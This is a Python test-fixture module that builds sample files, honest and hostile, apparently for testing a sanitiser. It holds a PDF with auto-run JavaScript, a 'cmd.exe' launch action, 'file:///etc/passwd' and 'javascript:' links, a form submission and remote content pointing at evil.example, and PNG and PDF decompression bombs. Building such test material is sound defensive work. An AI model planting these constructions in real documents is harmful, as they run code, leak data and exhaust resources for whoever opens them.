"""Files of every kind, honest and not, made for the tests."""

import io
import struct
import zipfile
import zlib
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

PLACE = b"GPS 51.5007N 0.1246W"


def picture(
    image_format: str = "JPEG", size: tuple[int, int] = (40, 30), colour: Any = "red", mode: str = "RGB", **facts: Any
) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, image_format, **facts)
    return out.getvalue()


def opened(content: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(content))
    image.load()
    return image


def exif(orientation: int = 1) -> bytes:
    """Notes as a phone writes them: who, which way up, and where."""
    notes = Image.Exif()
    notes[0x010E] = PLACE.decode()
    notes[0x013B] = "Ada's own name"
    notes[0x0112] = orientation
    notes.get_ifd(0x8825)[1] = "N"
    return notes.tobytes()


def halves(size: tuple[int, int] = (40, 20)) -> Image.Image:
    """Red on the left, blue on the right."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (size[0] // 2, 0, *size))
    return image


def png_that_claims(width: int, height: int) -> bytes:
    """A few bytes that would be `width` by `height` pixels of nothing."""
    rows = zlib.compress(b"\0" * 1_000_000, 9)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def archive(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, content in (members or {"evil": b"<script>"}).items():
            packed.writestr(name, content)
    return out.getvalue()


def empty_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 100))
    return pdf


def written(pdf: pikepdf.Pdf, **how: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **how)
    return out.getvalue()


def document(pages: int = 1, words: bytes = b"BT /F1 12 Tf 10 50 Td (Dear Ada) Tj ET") -> bytes:
    pdf = empty_pdf(pages)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    for page in pdf.pages:
        page.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
        page.Contents = pdf.make_stream(words)
    return written(pdf, deterministic_id=True)


def reopened(content: bytes) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(content))


def armed_document() -> bytes:
    """A PDF with everything in it that could do something, or tell who made it."""
    pdf = reopened(document())
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    pdf.attachments["evil.exe"] = b"MZ evil"
    pdf.docinfo["/Author"] = "Ada's own name"
    with pdf.open_metadata() as notes:
        notes["dc:creator"] = ["Ada's own name"]
    page = pdf.pages[0]
    page.obj.AA = Dictionary(O=script)
    page.obj.PieceInfo = Dictionary(Maker=Dictionary(Private=String("Ada's own name")))
    page.obj.Annots = Array(
        [
            pressed(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
            pressed(script),
            pressed(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
            pressed(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
            pressed(Dictionary(S=Name.URI, URI=String("https://www.nhs.uk/"), Next=script)),
            pressed(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))),
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=Dictionary(F=String("e"))),
        ]
    )
    # These words are somewhere else, it says: fetch them.
    page.Contents.F = Dictionary(FS=Name.URL, F=String("https://evil.example/contents"))
    return written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def pressed(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[10, 10, 90, 30], A=action)


def filled_form() -> bytes:
    """A form with one field, whose answer is known only to the field."""
    pdf = reopened(document())
    page = pdf.pages[0]
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("Filled in by Ada"),
            DA=String("/F1 12 Tf 0 g"),
            Rect=[10, 10, 190, 30],
            P=page.obj,
        )
    )
    page.obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        NeedAppearances=True,
        DR=Dictionary(Font=page.obj.Resources.Font),
        DA=String("/F1 12 Tf 0 g"),
    )
    return written(pdf)


@cache
def pdf_bomb(size: int) -> bytes:
    """A small file whose catalogue is said to lie in a stream of `size` bytes, which must be unpacked to look."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"1 0 2 9 ")
    packed += b"".join(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + packer.flush()
    head = b"%PDF-1.5\n"
    stream = b"5 0 obj\n<</Type/ObjStm/N 2/First 8/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    stream += packed + b"\nendstream\nendobj\n"
    rows = [(0, 0, 0), (2, 5, 0), (2, 5, 1), (0, 0, 0), (0, 0, 0), (1, len(head), 0), (1, len(head) + len(stream), 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    xref = b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return head + stream + xref + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(head) + len(stream))
